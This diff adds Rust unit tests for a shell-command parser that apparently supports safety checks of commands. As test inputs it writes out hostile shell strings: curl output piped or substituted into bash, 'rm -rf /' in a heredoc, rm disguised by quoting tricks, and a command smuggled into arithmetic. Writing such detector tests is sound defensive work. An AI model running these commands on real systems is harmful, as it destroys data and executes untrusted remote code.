@@ -1,0 +1,111 @@
+use super::*;
+
+fn names(src: &str) -> Vec<String> {
+    parse(src)
+        .commands
+        .iter()
+        .map(|c| c.name.value.clone())
+        .collect()
+}
+
+#[test]
+fn finds_commands_in_every_construct() {
+    let src = "a | b && c || d; e & f\n(g); { h; }; if i; then j; elif k; then l; else m; fi; \
+               for x in 1; do n; done; while o; do p; done; until q; do r; done; \
+               case $v in z) s;; esac; fn() { t; }; echo $(u) `v` <(w) >(y) \"$(aa)\" $((1+$(bb))); ! cc";
+    let mut got = names(src);
+    got.sort();
+    let mut want: Vec<String> = "a b c d e f g h i j k l m n o p q r s t u v w y aa bb cc echo"
+        .split(' ')
+        .map(String::from)
+        .collect();
+    want.sort();
+    assert_eq!(got, want);
+}
+
+#[test]
+fn quote_removal_and_concatenation_give_the_real_name() {
+    assert_eq!(names("r''m x"), ["rm"]);
+    assert_eq!(names("\"ls\" -l"), ["ls"]);
+    assert_eq!(names("\\rm -f x"), ["rm"]);
+    assert_eq!(names("$'\\x72m' x"), ["rm"]);
+    assert_eq!(names("'r'\"m\" x"), ["rm"]);
+    let f = parse("$cmd x; ${X}y");
+    assert!(f.commands.iter().all(|c| c.name.dynamic));
+}
+
+#[test]
+fn redirections_are_recorded_with_operator_and_target() {
+    let f = parse("echo a > o1 2>> o2 &> o3 &>> o4 >| o5 2>&1 < in; cat <<< s");
+    let got: Vec<(RedirectKind, String)> = f
+        .all_redirects()
+        .map(|r| {
+            (
+                r.kind,
+                r.target
+                    .as_ref()
+                    .map(|t| t.value.clone())
+                    .unwrap_or_default(),
+            )
+        })
+        .collect();
+    assert!(got.contains(&(RedirectKind::Output, "o1".into())));
+    assert!(got.contains(&(RedirectKind::Append, "o2".into())));
+    assert!(got.contains(&(RedirectKind::OutputAndError, "o3".into())));
+    assert!(got.contains(&(RedirectKind::AppendOutputAndError, "o4".into())));
+    assert!(got.contains(&(RedirectKind::Clobber, "o5".into())));
+    assert!(got.contains(&(RedirectKind::DuplicateOutput, "1".into())));
+    assert!(got.contains(&(RedirectKind::Input, "in".into())));
+    assert!(got.contains(&(RedirectKind::HereString, "s".into())));
+    let f = parse("{ ls; } > out");
+    assert_eq!(
+        f.statement_redirects[0].target.as_ref().unwrap().value,
+        "out"
+    );
+}
+
+#[test]
+fn heredoc_hides_nothing_on_its_line() {
+    let f = parse("cat <<EOF; rm x\nhi\nEOF\necho after\n");
+    let n: Vec<String> = f.commands.iter().map(|c| c.name.value.clone()).collect();
+    assert!(n.contains(&"rm".to_string()), "{n:?}");
+    assert!(n.contains(&"echo".to_string()), "{n:?}");
+    assert_eq!(f.heredocs.len(), 1);
+    assert_eq!(f.heredocs[0].body, "hi\n");
+    let f = parse("bash <<'EOF'\nrm -rf /\nEOF\n");
+    assert!(f.heredocs[0].quoted);
+    assert_eq!(f.heredocs[0].body, "rm -rf /\n");
+}
+
+#[test]
+fn substitutions_are_linked_to_their_word() {
+    let f = parse("bash <(curl http://x)");
+    let bash = f.commands.iter().find(|c| c.name.value == "bash").unwrap();
+    let inner = &bash.args[0].substitutions;
+    assert_eq!(inner.len(), 1);
+    assert_eq!(f.commands[inner[0]].name.value, "curl");
+}
+
+#[test]
+fn pipelines_keep_their_stages() {
+    let f = parse("curl x | sh");
+    assert_eq!(f.pipelines.len(), 1);
+    assert_eq!(f.pipelines[0].len(), 2);
+}
+
+#[test]
+fn arithmetic_on_variables_and_errors_are_reported() {
+    assert!(parse("(( x[$(id)] ))").arithmetic_on_variables);
+    assert!(parse("echo $((a+1))").arithmetic_on_variables);
+    assert!(!parse("echo $((1+2))").arithmetic_on_variables);
+    assert!(parse("[[ $x -eq 3 ]]").arithmetic_on_variables);
+    assert!(!parse("[[ 1 -eq 3 ]]").arithmetic_on_variables);
+    assert!(!parse("echo 'unterminated").parse_errors.is_empty());
+}
+
+#[test]
+fn deep_nesting_is_reported_not_overflowed() {
+    let src = "$(".repeat(5000) + "ls" + &")".repeat(5000);
+    let f = parse(&src);
+    assert!(f.too_deep);
+}
